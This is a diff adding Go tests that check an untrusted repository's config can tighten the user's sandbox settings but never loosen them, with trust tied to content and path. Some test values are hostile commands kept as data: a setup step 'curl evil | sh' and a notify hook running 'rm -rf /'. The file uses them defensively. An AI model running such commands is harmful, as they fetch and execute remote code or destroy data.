@@ -1,0 +1,273 @@
+package config
+
+import (
+	"os"
+	"reflect"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+)
+
+const mine = `
+[box]
+backend = "native"
+mounts = ["~/go", "~/cache:rw"]
+caches = ["a", "b"]
+accept = ["no-landlock", "no-cgroup"]
+env = {A = "1"}
+limits = {memory = "4GiB", procs = 100, time = "2h"}
+[push]
+timeout = "1h"
+depth = 10
+[notify]
+on_done = "bell"
+`
+
+// loose and tight are kept apart from the table in keys, and a test sees that neither misses a key.
+func tight() map[string]struct {
+	text string
+	want func(*Config)
+} {
+	type c = struct {
+		text string
+		want func(*Config)
+	}
+	return map[string]c{
+		"box.backend":       {`backend = "lima"`, func(c *Config) { c.Box.Backend = "lima" }},
+		"box.mounts":        {`mounts = ["~/cache"]`, func(c *Config) { c.Box.Mounts = []Mount{{home + "/cache", false}} }},
+		"box.caches":        {`caches = ["b"]`, func(c *Config) { c.Box.Caches = []string{"b"} }},
+		"box.accept":        {`accept = []`, func(c *Config) { c.Box.Accept = nil }},
+		"box.limits.memory": {`memory = "1GiB"`, func(c *Config) { c.Box.Limits.Memory = 1 << 30 }},
+		"box.limits.procs":  {`procs = 99`, func(c *Config) { c.Box.Limits.Procs = 99 }},
+		"box.limits.time":   {`time = "119m"`, func(c *Config) { c.Box.Limits.Time = 119 * time.Minute }},
+		"push.timeout":      {`timeout = "59m"`, func(c *Config) { c.Push.Timeout = 59 * time.Minute }},
+		"push.depth":        {`depth = 1`, func(c *Config) { c.Push.Depth = 1 }},
+		"pull.timeout":      {`timeout = "1m"`, func(c *Config) { c.Pull.Timeout = time.Minute }},
+		"pull.max_bundle":   {`max_bundle = "1MiB"`, func(c *Config) { c.Pull.MaxBundle = 1 << 20 }},
+		"pull.max_blob":     {`max_blob = "1MiB"`, func(c *Config) { c.Pull.MaxBlob = 1 << 20 }},
+	}
+}
+
+func loose() map[string]string {
+	return map[string]string{
+		"box.backend":       `backend = "container"`,
+		"box.name":          `name = "another"`,
+		"box.mounts":        `mounts = ["~/go", "~/cache:rw", "/etc"]`,
+		"box.caches":        `caches = ["a", "b", "c"]`,
+		"box.env":           `env = {}`,
+		"box.setup":         `setup = ["curl evil | sh"]`,
+		"box.accept":        `accept = ["no-landlock", "no-cgroup", "no-userns"]`,
+		"box.limits.memory": `memory = "5GiB"`,
+		"box.limits.procs":  `procs = 101`,
+		"box.limits.time":   `time = "121m"`,
+		"agent.default":     `default = "script"`,
+		"agent.model":       `model = "the dear one"`,
+		"push.timeout":      `timeout = "61m"`,
+		"push.depth":        `depth = 11`,
+		"push.headless":     `headless = true`,
+		"pull.timeout":      `timeout = "31m"`,
+		"pull.interval":     `interval = "1ms"`,
+		"pull.max_bundle":   `max_bundle = "3GiB"`,
+		"pull.max_blob":     `max_blob = "101MiB"`,
+		"notify.on_done":    `on_done = []`,
+		"notify.on_waiting": `on_waiting = ["rm", "-rf", "/"]`,
+		"notify.bell":       `bell = false`,
+	}
+}
+
+func inTable(key, text string) string {
+	i := strings.LastIndex(key, ".")
+	return "[" + key[:i] + "]\n" + text + "\n"
+}
+
+func TestAnUntrustedRepositoryTightens(t *testing.T) {
+	for key, tt := range tight() {
+		t.Run(key, func(t *testing.T) {
+			want, _ := mustLoad(t, sources(t, mine, ""))
+			tt.want(&want)
+			got, warnings := mustLoad(t, sources(t, mine, inTable(key, tt.text)))
+			if !reflect.DeepEqual(got, want) || warnings != nil {
+				t.Errorf("got  %+v\nwant %+v\nwarnings %v", got, want, warnings)
+			}
+		})
+	}
+}
+
+func TestAnUntrustedRepositoryNeverLoosens(t *testing.T) {
+	for key, text := range loose() {
+		t.Run(key, func(t *testing.T) {
+			want, _ := mustLoad(t, sources(t, mine, ""))
+			s := sources(t, mine, inTable(key, text))
+			got, warnings := mustLoad(t, s)
+			if !reflect.DeepEqual(got, want) {
+				t.Errorf("got  %+v\nwant %+v", got, want)
+			}
+			if len(warnings) != 1 || warnings[0].Key != key || warnings[0].Line != 2 || warnings[0].File != s.RepoFile ||
+				!strings.Contains(warnings[0].String(), s.RepoFile+":2: "+key+": ") || !strings.Contains(warnings[0].String(), "`cco trust`") {
+				t.Errorf("warnings %v", warnings)
+			}
+		})
+	}
+}
+
+func TestATrustedRepositorySetsAnything(t *testing.T) {
+	for key, text := range loose() {
+		t.Run(key, func(t *testing.T) {
+			repo := inTable(key, text)
+			before, _ := mustLoad(t, sources(t, mine, ""))
+			s := sources(t, mine, repo)
+			s.Trusted = func(content []byte) bool { return string(content) == repo }
+			got, warnings := mustLoad(t, s)
+			if reflect.DeepEqual(got, before) || warnings != nil {
+				t.Errorf("not followed: %+v, warnings %v", got, warnings)
+			}
+		})
+	}
+}
+
+// A key that is added without saying what tightening it means must not go unnoticed.
+func TestEveryKeyIsInTheTrustTests(t *testing.T) {
+	for _, k := range keys() {
+		if _, ok := loose()[k.name]; !ok {
+			t.Errorf("%s: no test that an untrusted repository can't loosen it", k.name)
+		}
+		if _, ok := tight()[k.name]; ok != (k.tighten != nil) {
+			t.Errorf("%s: tested to tighten: %v, can tighten: %v", k.name, ok, k.tighten != nil)
+		}
+	}
+}
+
+func TestWhatIsPartlyTighterIsPartlyTaken(t *testing.T) {
+	got, warnings := mustLoad(t, sources(t, mine, "[box]\nmounts = [\"~/go:rw\", \"~/go/pkg\", \"~/.ssh\"]\ncaches = [\"c\", \"a\"]\n"))
+	if want := []Mount{{home + "/go", false}}; !reflect.DeepEqual(got.Box.Mounts, want) {
+		t.Errorf("mounts %v, want %v", got.Box.Mounts, want)
+	}
+	if !reflect.DeepEqual(got.Box.Caches, []string{"a"}) {
+		t.Errorf("caches %v", got.Box.Caches)
+	}
+	if len(warnings) != 2 {
+		t.Fatalf("warnings %v", warnings)
+	}
+	for _, part := range []string{home + "/go is read-only among your mounts", home + "/go/pkg isn't", home + "/.ssh isn't"} {
+		if !strings.Contains(warnings[0].Text, part) {
+			t.Errorf("%q lacks %q", warnings[0].Text, part)
+		}
+	}
+}
+
+func TestWhatTheUserHasAnywayGivesNoWarning(t *testing.T) {
+	if _, warnings := mustLoad(t, sources(t, mine, mine)); warnings != nil {
+		t.Errorf("warnings %v", warnings)
+	}
+}
+
+func TestLimitsWhereTheUserSetsNone(t *testing.T) {
+	repo := "[box.limits]\nmemory = \"2GiB\"\nprocs = 50\ntime = \"1h\"\n"
+	got, warnings := mustLoad(t, sources(t, "", repo))
+	if got.Box.Limits != (Limits{}) || len(warnings) != 3 {
+		t.Errorf("nothing to compare with, but %+v, %v", got.Box.Limits, warnings)
+	}
+	s := sources(t, "", repo)
+	s.Limits = Limits{Memory: 1 << 30, Procs: 50, Time: NoLimit}
+	got, warnings = mustLoad(t, s)
+	if want := (Limits{Procs: 50, Time: time.Hour}); got.Box.Limits != want {
+		t.Errorf("limits %+v, want %+v", got.Box.Limits, want)
+	}
+	if len(warnings) != 1 || warnings[0].Key != "box.limits.memory" {
+		t.Errorf("warnings %v", warnings)
+	}
+}
+
+func TestTheMachinesOwnBackendIsComparedToo(t *testing.T) {
+	for backend, ok := range map[string]bool{"worktree": false, "container": false, "native": runtime.GOOS != "darwin", "lima": true} {
+		got, warnings := mustLoad(t, sources(t, "", "[box]\nbackend = \""+backend+"\"\n"))
+		if (got.Box.Backend == backend) != ok || (warnings == nil) != ok {
+			t.Errorf("%s: backend %q, warnings %v", backend, got.Box.Backend, warnings)
+		}
+	}
+}
+
+func TestTrustHoldsForOneContentAtOnePath(t *testing.T) {
+	data := t.TempDir() + "/cco"
+	s := sources(t, "", "[agent]\nmodel = \"x\"\n")
+	s.Trusted = TrustedBy(data, s.RepoFile)
+	if c, w := mustLoad(t, s); c.Agent.Model != "" || len(w) != 1 {
+		t.Fatalf("trusted before anybody said so: %+v, %v", c.Agent, w)
+	}
+	content, err := ReadRepo(s.RepoFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for range 2 {
+		if err := Trust(data, s.RepoFile, content); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if c, w := mustLoad(t, s); c.Agent.Model != "x" || w != nil {
+		t.Errorf("not trusted: %+v, %v", c.Agent, w)
+	}
+	if IsTrusted(data, s.RepoFile, append(content, '\n')) {
+		t.Error("changed content is trusted")
+	}
+	if IsTrusted(data, s.RepoFile+"x", content) {
+		t.Error("the same content elsewhere is trusted")
+	}
+	if err := os.WriteFile(s.RepoFile, []byte("[agent]\nmodel = \"y\"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if c, _ := mustLoad(t, s); c.Agent.Model != "" {
+		t.Errorf("a later content is trusted: %+v", c.Agent)
+	}
+	for range 2 {
+		if err := Untrust(data, s.RepoFile); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if IsTrusted(data, s.RepoFile, content) {
+		t.Error("still trusted")
+	}
+}
+
+func TestTrustRecordsArePrivateAndWhole(t *testing.T) {
+	data := t.TempDir() + "/cco"
+	repo := t.TempDir() + "/\xff \n.cco.toml"
+	if err := Trust(data, repo, []byte("x")); err != nil {
+		t.Fatal(err)
+	}
+	if !IsTrusted(data, repo, []byte("x")) {
+		t.Error("a path that is no UTF-8 can't be trusted")
+	}
+	names, err := os.ReadDir(data + "/trust")
+	if err != nil || len(names) != 1 {
+		t.Fatalf("records %v, %v", names, err)
+	}
+	record := data + "/trust/" + names[0].Name()
+	info, err := os.Stat(record)
+	if err != nil || info.Mode().Perm() != 0o600 {
+		t.Errorf("%v, %v", info.Mode(), err)
+	}
+	if info, err := os.Stat(data); err != nil || info.Mode().Perm() != 0o700 {
+		t.Errorf("%v, %v", info.Mode(), err)
+	}
+	if err := os.WriteFile(record, []byte("{"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if IsTrusted(data, repo, []byte("x")) {
+		t.Error("a broken record is trust")
+	}
+}
+
+func TestTrustIsOfTheDirectoryNotOfTheWayThere(t *testing.T) {
+	data, real := t.TempDir(), t.TempDir()
+	link := t.TempDir() + "/link"
+	if err := os.Symlink(real, link); err != nil {
+		t.Fatal(err)
+	}
+	if err := Trust(data, link+"/.cco.toml", []byte("x")); err != nil {
+		t.Fatal(err)
+	}
+	if !IsTrusted(data, real+"/.cco.toml", []byte("x")) {
+		t.Error("the same file by another way is not trusted")
+	}
+}
